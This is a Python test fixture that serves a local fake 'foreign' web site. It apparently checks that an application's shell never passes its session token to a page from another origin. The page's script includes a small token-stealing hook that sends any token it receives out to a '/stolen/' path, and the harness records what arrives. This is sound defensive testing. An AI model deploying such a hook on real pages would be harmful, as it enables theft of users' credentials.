"""A web site of somebody else: it wants the window's top document, and the token that the shell would get there."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.support.page_scripts import POST
from tests.support.served import served

PAGE = f"""<!doctype html><title>Foreign</title><script>
    globalThis.__agentnookOpen = (token) => fetch('/stolen/' + token);
    {POST}
    setInterval(() => post('knock'), 50);
</script>"""


class ForeignSite:
    """What the site has seen: the path of every request."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.paths: list[str] = []

    def stolen(self) -> list[str]:
        """Return the tokens that its page was given."""
        return [path.removeprefix("/stolen/") for path in self.paths if path.startswith("/stolen/")]

    def visits(self) -> list[str]:
        """Return what else was asked of it."""
        return [path for path in self.paths if not path.startswith("/stolen/")]


@contextmanager
def foreign_site() -> Iterator[ForeignSite]:
    """Run such a site for the length of a block."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.paths.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(PAGE)))
            self.end_headers()
            self.wfile.write(PAGE.encode("ascii"))

        do_POST = do_GET  # noqa: N815 - the base class's name

        def log_message(self, *_anything: object) -> None:
            """Say nothing: the test looks at the paths."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site = ForeignSite(server.server_port)
    with served(server):
        yield site
